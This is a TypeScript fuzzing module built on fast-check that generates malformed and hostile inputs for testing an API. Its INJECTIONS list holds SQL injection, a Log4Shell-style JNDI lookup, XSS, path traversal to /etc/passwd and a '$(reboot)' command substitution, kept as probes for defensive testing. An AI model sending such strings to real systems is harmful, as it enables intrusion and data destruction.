import fc from "fast-check";

/** Strings that have broken parsers, queries and templates elsewhere. */
export const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE memories; --",
  '"; SELECT pg_sleep(5); --',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, sent as text.
  "${jndi:ldap://x/a}",
  "{{7*7}}",
  "<script>alert(1)</script>",
  "../../../../etc/passwd",
  "..%2f..%2fetc%2fpasswd",
  "%00",
  "\u0000",
  "\\u0000",
  "$(reboot)",
  "__proto__",
  "constructor",
  "NaN",
  "-0",
  "1e309",
  "0x7fffffff",
  "null",
  "[]",
  "{}",
];

/** Text that stresses encoders and validators: NUL, lone surrogates, emoji floods, RTL, huge. */
export const nastyString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...INJECTIONS),
  fc.string({ unit: "binary", maxLength: 64 }),
  fc.string({ unit: "grapheme", maxLength: 64 }),
  fc.integer({ min: 1, max: 5_000 }).map((n) => "😀".repeat(n)),
  fc.integer({ min: 1, max: 2_000 }).map((n) => "\u0000".repeat(n)),
  fc.constantFrom("\ud800", "a\udc00b", "\u202e\u202dtxt", "\ufeff", "\u200b".repeat(100)),
  fc.integer({ min: 10_000, max: 300_000 }).map((n) => "a".repeat(n)),
);

/** Any JSON-ish value of a type the schema probably did not ask for. */
export const wrongValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  fc.integer(),
  fc.double(),
  fc.constantFrom(Number.MAX_SAFE_INTEGER + 2, -1, 0, 2 ** 31, -(2 ** 63)),
  nastyString,
  fc.array(fc.oneof(fc.integer(), fc.string()), { maxLength: 5 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.oneof(fc.integer(), fc.string()), { maxKeys: 4 }),
);

const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g;

/** A path segment where an id belongs: unknown but well-formed ids, and malformed ones. */
export const badPathId: fc.Arbitrary<string> = fc.oneof(
  fc.uuid().map((u) => u),
  fc.constantFrom(
    "not-a-uuid",
    "00000000-0000-0000-0000-000000000000",
    "0190A000-0000-7000-8000-00000000000G",
    "%00",
    "%ff%fe",
    "..",
    "%2e%2e",
    "a%2Fb",
    "'",
    "%27%20OR%201%3D1",
    "-1",
    "9".repeat(40),
    "x".repeat(2_000),
    "%F0%9F%98%80",
    "%C0%AF",
  ),
  // Lone surrogates cannot be percent-encoded as UTF-8; they travel as U+FFFD.
  nastyString.map((s) => encodeURIComponent(s.slice(0, 300).replace(LONE_SURROGATE, "\ufffd"))),
);

/** A query string value: bad numbers, bad cursors, bad dates, injections. */
export const badQueryValue: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom("-1", "0", "1e9", "abc", "", "true", "null", "2026-13-45", "9999-99-99T99:99:99Z", "NaN"),
  fc.base64String({ maxLength: 80 }),
  fc.string({ maxLength: 40 }),
  fc.constantFrom(...INJECTIONS),
);

/** Deeply nested JSON text, arrays or objects, past any sensible depth. */
export const deepJson: fc.Arbitrary<string> = fc
  .tuple(fc.integer({ min: 500, max: 20_000 }), fc.boolean())
  .map(([depth, arrays]) =>
    arrays ? `${"[".repeat(depth)}${"]".repeat(depth)}` : `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`,
  );

/** Bytes that are not UTF-8 (overlong forms, lone continuation bytes, 0xFF). */
export const invalidUtf8: fc.Arbitrary<Uint8Array> = fc
  .array(fc.constantFrom(0xff, 0xfe, 0xc0, 0xaf, 0x80, 0xed, 0xa0, 0x00, 0x7b, 0x22), {
    minLength: 1,
    maxLength: 200,
  })
  .map((bytes) => Uint8Array.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, ...bytes, 0x22, 0x7d]));
